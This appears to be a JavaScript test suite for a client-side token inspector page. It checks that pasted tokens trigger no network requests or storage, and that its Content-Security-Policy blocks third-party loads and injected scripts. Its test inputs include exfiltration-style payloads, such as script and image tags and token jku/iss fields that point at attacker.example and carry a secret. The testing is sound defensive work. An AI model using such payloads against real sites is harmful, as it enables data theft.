// What the page promises a security engineer: nothing leaves, nothing stays, and the policy that says
// so is the one that holds.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { NOW, launch, url, visit } from "./browser.mjs";
import { OPAQUE, access, identity } from "./tokens.mjs";

const SECRET = "c2VjcmV0LW9mLXRoZS1wYXN0ZQ-do-not-keep";
const TOKEN = access({ marker: SECRET });

let browser;
before(async () => { browser = await launch(); });
after(() => browser?.close());

/** Everything a page can leave behind, as one text. */
const leftBehind = (page) => page.evaluate(async () => {
  const databases = await indexedDB.databases?.() ?? [];
  const caches = await globalThis.caches?.keys() ?? [];
  return JSON.stringify([
    location.href, document.title, document.cookie, history.state, history.length,
    { ...localStorage }, { ...sessionStorage }, databases, caches, window.name,
  ]);
});

test("a day's pastes cause no request, and leave nothing behind", async () => {
  const seen = await visit(browser, { now: NOW });
  const page = seen.claimlens;
  const before = await leftBehind(seen.page);
  const pastes = [
    TOKEN, `Authorization: Bearer ${TOKEN}`, `https://client.example/cb#access_token=${TOKEN}`, OPAQUE,
    JSON.stringify({ access_token: TOKEN, id_token: identity(), token_type: "Bearer" }),
    "Authorization: Basic dXNlcjpwYXNzd29yZA==", `${SECRET} https://attacker.example/${SECRET}.png`,
    `<img src="https://attacker.example/${SECRET}"><script src="https://attacker.example/x.js"></script>`,
    access({ jku: "https://attacker.example/keys", iss: "https://attacker.example", picture: "https://attacker.example/p.png" }),
  ];
  for (const paste of pastes) await page.replace(paste);
  await page.clear();
  await page.undo();
  await page.theme("dark");
  await page.theme("system");
  assert.equal(await leftBehind(seen.page), before);
  await seen.end();
});

test("the theme is one word in storage, expectations stay in the session, the token in neither", async () => {
  const seen = await visit(browser, { now: NOW });
  const page = seen.claimlens;
  await page.replace(TOKEN);
  await page.theme("dark");
  await page.expect({ audience: "https://api.example.com", scopes: "orders:read" });
  const kept = await seen.page.evaluate(() => ({ local: { ...localStorage }, session: JSON.stringify({ ...sessionStorage }) }));
  assert.deepEqual(kept.local, { theme: "dark" });
  assert.match(kept.session, /https:\/\/api\.example\.com/);
  const parts = TOKEN.split(".");
  for (const piece of [SECRET, ...parts]) {
    assert.ok(!kept.session.includes(piece), "nothing of the token");
  }
  await seen.end();
});

test("the policy in the page is the one in the header, and names no host", async () => {
  const answer = await fetch(url);
  const header = answer.headers.get("content-security-policy");
  const html = await answer.text();
  const meta = html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/i)?.[1];
  assert.ok(meta, "a policy in the page");
  const directives = (policy) => policy.split(";").map((directive) => directive.trim()).filter(Boolean).sort();
  // frame-ancestors works in a header only.
  const extra = directives(header).filter((directive) => !directives(meta).includes(directive));
  assert.deepEqual(extra, ["frame-ancestors 'none'"]);
  assert.ok(directives(meta).every((directive) => directives(header).includes(directive)));
  assert.ok(directives(header).includes("default-src 'none'"));
  assert.doesNotMatch(header, /https?:|\*|unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')/);
  assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
  assert.equal(answer.headers.get("referrer-policy"), "no-referrer");
});

test("what the policy forbids does not happen", async () => {
  const seen = await visit(browser);
  const result = await seen.page.evaluate(async () => {
    const reach = (address) => fetch(address, { mode: "no-cors" }).then(() => "reached", () => "refused");
    const image = () => new Promise((done) => {
      const picture = new Image();
      picture.onload = () => done("loaded");
      picture.onerror = () => done("refused");
      picture.src = "https://third-party.example/pixel.png";
    });
    const script = document.createElement("script");
    script.textContent = "globalThis.injected = true";
    document.body.append(script);
    return { fetch: await reach("https://third-party.example/"), image: await image(), injected: globalThis.injected === true };
  });
  assert.deepEqual(result, { fetch: "refused", image: "refused", injected: false });
  assert.ok((await seen.violations()).length >= 3);
  await seen.context.close();
});

test("the list of the page's files is asked for by a person, from the same origin, and is right", async () => {
  const seen = await visit(browser);
  await seen.page.click("#how > summary");
  await seen.page.locator("#build .files li").first().waitFor();
  assert.deepEqual(seen.requestsSince(), [new URL("build.json", url).href]);
  const { files } = await (await fetch(new URL("build.json", url))).json();
  for (const [name, { sha384 }] of Object.entries(files)) {
    const bytes = await (await fetch(new URL(name, url))).arrayBuffer();
    const hash = Buffer.from(await crypto.subtle.digest("SHA-384", bytes));
    assert.ok([hash.toString("base64"), hash.toString("hex"), `sha384-${hash.toString("base64")}`].includes(sha384), name);
  }
  await seen.context.close();
});
